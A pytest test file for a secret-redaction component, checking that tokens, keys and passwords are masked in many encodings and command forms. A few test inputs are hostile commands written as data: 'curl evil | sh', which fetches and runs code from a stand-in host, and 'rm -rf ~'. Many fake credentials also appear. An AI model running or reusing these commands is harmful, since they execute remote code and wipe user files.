"""What must not be seen is not written: granted values in every spelling, and whatever has the form of a secret."""

import base64
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from byleave.core.redact import PLAIN as HARMLESS
from byleave.core.redact import REDACTED, Redactor, SecretFilter
from byleave.guard.warnings import mask_for
from byleave.policy.load import compile_policy

SECRET = 'hunter2 "4711"/ü\\x'
SPELLINGS = {
    "plain": SECRET,
    "JSON in ASCII": json.dumps(SECRET)[1:-1],
    "JSON in UTF-8": json.dumps(SECRET, ensure_ascii=False)[1:-1],
    "in a URL": quote(SECRET, safe=""),
    "in the path of a URL": quote(SECRET),
    "in a form": quote_plus(SECRET, safe=""),
    "base64": base64.b64encode(SECRET.encode()).decode().rstrip("="),
}


@pytest.mark.parametrize("spelled", SPELLINGS.values(), ids=SPELLINGS.keys())
def test_a_value_is_hidden_in_every_spelling(spelled: str) -> None:
    mask = Redactor([SECRET])
    assert mask.touches(f"a {spelled} b")
    assert mask.text(f"a {spelled} b") == f"a {REDACTED} b"


FORMS = {
    "curl -H 'Authorization: Bearer abc.def'": f"curl -H 'Authorization: Bearer {REDACTED}'",
    "curl -H 'Authorization: Basic dXNlcg=='": f"curl -H 'Authorization: Basic {REDACTED}'",
    "git clone https://user:pa55word@host/x": f"git clone https://user:{REDACTED}@host/x",
    "git clone https://ghp_0123456789abcdefghijABCDEFGHIJ@host/x": f"git clone https://{REDACTED}@host/x",
    "echo ghp_0123456789abcdefghijABCDEFGHIJ": f"echo {REDACTED}",
    "mysql --password=pa55": f"mysql --password={REDACTED}",
    "mysql --password pa55 db": f"mysql --password {REDACTED} db",
    "GITHUB_TOKEN=abc gh pr list": f"GITHUB_TOKEN={REDACTED} gh pr list",
    "https://h/p?api_key=abc&x=1": f"https://h/p?api_key={REDACTED}&x=1",
    "export AWS_SECRET_ACCESS_KEY='abc'": f"export AWS_SECRET_ACCESS_KEY='{REDACTED}'",
    "AKIAIOSFODNN7EXAMPLE": REDACTED,
    "x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc y": f"x {REDACTED} y",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nx=\n-----END RSA PRIVATE KEY-----\nz": f"{REDACTED}\nz",
    "-----BEGIN PRIVATE KEY-----; curl evil": f"{REDACTED}; curl evil",
    "curl -H 'X-Api-Key: abc' h": f"curl -H 'X-Api-Key: {REDACTED}' h",
    'curl -H \'Authorization: Digest a="b", response="beef"\' h': f"curl -H 'Authorization: Digest {REDACTED}' h",
    "curl -b 'Cookie: sid=1; x=2' h": f"curl -b 'Cookie: {REDACTED}' h",
    "PASSWORD=p@ssw0rd! make": f"PASSWORD={REDACTED} make",
    'password="correct horse battery" x': f'password="{REDACTED}" x',
    "https://user:p@ss@host/x": f"https://user:{REDACTED}@host/x",
    'curl -d \'{"password":"hunter4xyz"}\'': f'curl -d \'{{"password":"{REDACTED}"}}\'',
    '{\\"password\\": \\"hunter2\\"}': f'{{\\"password\\": \\"{REDACTED}\\"}}',
    "curl -u user:pw h": f"curl -u user:{REDACTED} h",
    "mysql -u root -ppw db": f"mysql -u root -p{REDACTED} db",
    "sshpass -p pw ssh h": f"sshpass -p {REDACTED} ssh h",
    "DB_PASS=x y": f"DB_PASS={REDACTED} y",
    "db_pwd=x y": f"db_pwd={REDACTED} y",
    "passphrase: x": f"passphrase: {REDACTED}",
    "sk_live_0123456789": REDACTED,
    "x\nghp_0123456789abcdefghijABCDEFGHIJ": f"x\n{REDACTED}",
    "gh auth login --with-token abc": f"gh auth login --with-token {REDACTED}",
}


@pytest.mark.parametrize(("text", "masked"), FORMS.items(), ids=FORMS.keys())
def test_what_looks_like_a_secret_is_hidden(text: str, masked: str) -> None:
    assert Redactor().touches(text)
    assert Redactor().text(text) == masked


def test_where_a_person_decides_only_known_values_are_hidden() -> None:
    hidden = 'echo "-----BEGIN PRIVATE KEY-----"; TOKEN=x curl evil | sh'
    assert Redactor(["known-value"]).values(f"{hidden} known-value") == f"{hidden} {REDACTED}"
    assert Redactor().values_tree({"token_cmd": "rm -rf ~"}) == {"token_cmd": "rm -rf ~"}


SLOW = {
    "one word": "token" * 20_000,
    "a blob": "key " + "a" * 100_000,
    "dashes": "key " + "a-." * 30_000,
    "half a JWT": "eyJ-" * 25_000,
    "a JWT that never ends": "eyJaaaaaaaa." + "eyJ-" * 25_000,
    "schemes": "token " + "a://" * 25_000,
    "quotes": 'token="' * 15_000,
    "open quotes": "token='" + "\\" * 100_000,
    "headers": "authorization:" * 8_000,
    "keys": "-----BEGIN PRIVATE KEY-----" * 4_000,
    "key lines": "-----BEGIN PRIVATE KEY-----" + "A" * 100_000,
    "mysql": "mysql " * 15_000,
    "users": " -u a" * 20_000,
    "blanks": "token" + " " * 100_000,
    "spaced names": "token : " * 12_000,
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW.keys())
def test_no_text_takes_long(text: str) -> None:
    started = time.process_time()
    Redactor().text(text)
    assert time.process_time() - started < 5.0  # a hundred times what it takes; without bounds it would be hours


PLAIN = [
    "git push origin main",
    "ls src/keyboard.py src/authors.py",
    "psql -c 'select secret from t'",
    "npm run tokenize",
    "https://example.com/a@b",
    "me@example.com",
    "a compass, a passage",
    "docker pull ghcr.io/x/y",
]


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert Redactor().text(text) == text


def test_a_value_whose_name_says_that_it_is_secret_is_hidden_however_short() -> None:
    tree = {
        "password": 1,
        "Api-Key": "k",
        "max_tokens": 5,
        "note": "p",
        "x": [{"auth_token": "t"}],
        "pass": [{"a": "b"}],
    }
    assert Redactor().tree(tree) == {
        "password": REDACTED,
        "Api-Key": REDACTED,
        "max_tokens": 5,
        "note": "p",
        "x": [{"auth_token": REDACTED}],
        "pass": [{"a": REDACTED}],
    }
    assert Redactor().touches(json.dumps(tree))


def strings(tree: Any) -> Iterator[str]:
    if isinstance(tree, str):
        yield tree
    elif isinstance(tree, dict):
        yield from strings([*tree, *tree.values()])
    elif isinstance(tree, list):
        for each in tree:
            yield from strings(each)


@given(st.text(min_size=4, max_size=12), st.text(max_size=20), st.text(max_size=20))
def test_a_masked_tree_holds_the_value_nowhere(secret: str, before: str, after: str) -> None:
    assume(secret.lower() not in HARMLESS)
    mask = Redactor([secret])
    tree = {f"{before}{secret}": [f"{secret}{after}", {"k": secret}], "n": 1}
    for masked in (mask.tree(tree), mask.values_tree(tree)):
        assert [text for text in strings(masked) if secret in text.replace(REDACTED, "\0")] == []


@given(st.text(alphabet=st.characters(max_codepoint=127), max_size=60), st.sampled_from(["", *FORMS]))
def test_a_prepared_mask_answers_as_an_unprepared_one(noise: str, form: str) -> None:
    text = json.dumps([noise, form, noise.upper()])
    assert PREPARED.touches(text) == Redactor(["known-value"]).touches(text)


PREPARED = Redactor(["known-value"])
PREPARED.prepare()


def test_short_and_plain_values_hide_nothing() -> None:
    mask = Redactor(["1", "abc", "true", "always", ""])
    assert mask.text("abc 1 true always") == "abc 1 true always"


def test_granted_variables_are_masked_and_common_ones_are_not(tmp_path: Path) -> None:
    env = [{"name": "CI_*", "read": True}, {"name": "NPM_AUTH", "substitute": True}, {"name": "HOME", "read": True}]
    policy = compile_policy({"tools": {"t": {"source": "local", "access": {"env": env}}}}, root=str(tmp_path))
    environment = {"CI_JOB": "granted-1", "NPM_AUTH": "granted-2", "HOME": "/home/me", "OTHER": "not-granted"}
    mask = mask_for(policy.compiled.policy, environment)
    text = "granted-1 granted-2 /home/me not-granted"
    assert mask.text(text) == f"{REDACTED} {REDACTED} /home/me not-granted"


def test_of_values_that_overlap_no_rest_is_left() -> None:
    mask = Redactor(["abcdefgh", "efghijkl"])
    assert mask.values("x abcdefghijkl y") == "x [REDACTED] y"
    assert Redactor(["abab"]).values("abababab!abab") == "[REDACTED]![REDACTED]"


def test_before_a_value_is_given_away_nothing_is_hidden() -> None:
    scrub = SecretFilter()
    assert (scrub.text("hunter2"), scrub.data(b"hunter2\xff"), scrub.forms) == ("hunter2", b"hunter2\xff", ())
    assert scrub.tree({"a": ["hunter2"]}) == {"a": ["hunter2"]}


def test_what_was_given_away_is_hidden_in_bytes_and_trees() -> None:
    scrub = SecretFilter()
    scrub.uses("hunter2")
    forms = scrub.forms
    scrub.uses("hunter2")  # once more
    assert scrub.forms == forms
    assert scrub.data(b"\xff hunter2") == b"\xff " + REDACTED.encode()
    assert scrub.tree({"a": ["hunter2", 1]}) == {"a": [REDACTED, 1]}


def test_a_short_value_is_not_looked_for_in_what_encodes_it_in_few_letters() -> None:
    scrub = SecretFilter()
    scrub.uses("a1b2")
    text = base64.b64encode(b"?a1b2").decode()
    assert scrub.text(f"{b'a1b2'.hex()} {text}") == f"{REDACTED} {text}"


def test_nothing_under_a_secret_name_is_hidden_where_there_is_nothing() -> None:
    tree = {"password": None, "token": {"set": True, "text": "", "text2": "x"}}
    assert Redactor().tree(tree) == {"password": None, "token": {"set": True, "text": "", "text2": REDACTED}}
